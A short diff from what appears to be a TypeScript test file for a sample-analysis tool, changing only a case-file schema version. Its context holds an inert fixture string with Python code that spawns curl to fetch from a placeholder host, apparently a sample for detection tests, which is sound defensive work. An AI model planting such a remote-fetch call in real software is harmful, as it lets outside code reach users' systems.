@@ -19,7 +19,7 @@ afterAll(async () => {
 
 /** Inert; nothing of it ever runs. */
 const HIDDEN = `import subprocess\nsubprocess.Popen(["curl", "http://192.0.2.7/next"])\nprint("a frog", "another frog")\n`;
-const file: CaseFile = { schema: "vivarium-case/3", artifactId: "", filename: "", log: [], seen: [] };
+const file: CaseFile = { schema: "vivarium-case/4", artifactId: "", filename: "", log: [], seen: [] };
 const context = { workshop: workshops.bench, file, signal: undefined };
 
 function xor(bytes: Uint8Array, key: string): Buffer {
